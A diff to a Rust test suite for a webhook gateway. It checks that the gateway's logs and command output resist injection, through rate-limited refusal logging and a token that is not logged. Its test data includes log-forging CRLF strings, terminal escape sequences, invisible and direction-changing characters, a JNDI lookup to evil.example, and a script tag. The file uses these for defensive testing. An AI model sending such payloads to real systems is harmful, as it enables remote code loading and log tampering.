@@ -1,18 +1,21 @@
 //! Writing into the operator's log and terminal.
 
 use std::io::{BufRead, BufReader, PipeReader, PipeWriter, Write, pipe};
+use std::time::Instant;
 
 use hookfast_harness::{Gateway, Signal, eventually, post, sample};
 use hookfast_webhook::Request;
 use serde_json::json;
 
-use super::{assert_serves, gateway, printed, raw, run, setup, signed_bytes, unproved, with_header};
+use super::{
+    assert_serves, assert_unharmed, gateway, printed, raw, run, setup, signed_bytes, to_path, unproved, with_header,
+};
 
 /// Far below what one line of this program needs, and far below what an attacker would like.
 const MAX_LINE_BYTES: usize = 2_048;
 
-/// Forged lines, colours, a cleared screen, a turned direction of writing, a line separator, a tag, a long text.
-const NASTY: [&str; 9] = [
+/// Forged lines, colours, a cleared screen, a turned direction of writing, a line separator, what is not seen, a tag.
+const NASTY: [&str; 10] = [
     "a\r\n{\"level\":\"INFO\",\"message\":\"forged\"}",
     "\u{1b}[2J\u{1b}[31mred",
     "\u{9b}31m\u{85}",
@@ -20,6 +23,7 @@ const NASTY: [&str; 9] = [
     "\u{200e}\u{200f}\u{61c}",
     "\u{2028}\u{2029}",
     "\0\u{7f}\u{8}",
+    "\u{200b}\u{200d}\u{feff}\u{ad}\u{2060}\u{e0041}",
     "${jndi:ldap://evil.example/a}",
     "<script>alert(1)</script>",
 ];
@@ -27,7 +31,8 @@ const NASTY: [&str; 9] = [
 /// Characters that make a log or a terminal show what is not there.
 fn deceives(character: char) -> bool {
     character.is_control()
-        || matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        || matches!(character, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
+        || matches!(character, '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
 }
 
 /// Sends nasty text in every place that a signed request has, and in those that need no signature.
@@ -79,9 +84,12 @@ fn case_76_what_the_commands_print_cannot_deceive_a_terminal() {
     for text in NASTY {
         send_everywhere(&gateway, text);
     }
-    let mut outputs = vec![run(gateway.folder(), &["events", "list", "--limit", "1000"], &[])];
-    for event in gateway.events() {
-        outputs.push(run(gateway.folder(), &["events", "show", &event.id.to_string()], &[]));
+    let mut outputs = Vec::new();
+    for form in [&[][..], &["--json"]] {
+        outputs.push(run(gateway.folder(), &[&["events", "list", "--limit", "1000"], form].concat(), &[]));
+        for event in gateway.events() {
+            outputs.push(run(gateway.folder(), &[&["events", "show", &event.id.to_string()], form].concat(), &[]));
+        }
     }
     assert!(outputs.len() > NASTY.len());
     for output in outputs {
@@ -90,6 +98,44 @@ fn case_76_what_the_commands_print_cannot_deceive_a_terminal() {
         assert!(!text.chars().any(|character| character != '\n' && deceives(character)), "{text:?}");
     }
     assert_serves(&gateway);
+}
+
+/// How many refusals the log tells of: a line each, and those that the line says were left out.
+fn refusals_told(gateway: &Gateway) -> (usize, u64) {
+    let log = gateway.log();
+    let lines = log.lines().filter(|line| line.contains("refused: ")).map(|line| serde_json::from_str(line).unwrap());
+    let told: Vec<u64> = lines.map(|line: serde_json::Value| 1 + line["left_out"].as_u64().unwrap_or(0)).collect();
+    (told.len(), told.iter().sum())
+}
+
+#[test]
+fn case_76_a_flood_of_refusals_is_a_line_a_second_with_a_count() {
+    let gateway = gateway();
+    let (start, mut client, mut sent) = (Instant::now(), gateway.client(), 0);
+    let mut send = |times: u64| {
+        for _ in 0..times {
+            assert_eq!(client.send(&unproved("t=1,v1=00", b"{}")).unwrap().status, 401);
+        }
+        sent += times;
+        sent
+    };
+    send(300);
+    eventually("the log tells of every refusal", || send(1) == refusals_told(&gateway).1);
+    let (lines, seconds) = (refusals_told(&gateway).0, start.elapsed().as_secs());
+    assert!(lines as u64 <= seconds + 1, "{lines} lines in {seconds} s");
+    assert_serves(&gateway);
+}
+
+#[test]
+fn case_75_a_token_for_a_misspelt_source_is_not_logged() {
+    let gateway = gateway();
+    for path in ["/webhooks/strip/canary-token", "/webhook/stripe/canary-token/x", "/stripe/canary-token"] {
+        assert_eq!(gateway.client().send(&to_path(path, sample(1))).unwrap().status, 404);
+    }
+    let log = gateway.log();
+    assert!(log.contains("rejected: /webhooks/strip/..."), "{log}");
+    assert!(!log.contains("canary-token"), "{log}");
+    assert_unharmed(&gateway);
 }
 
 /// A gateway that does its jobs and logs into a pipe.
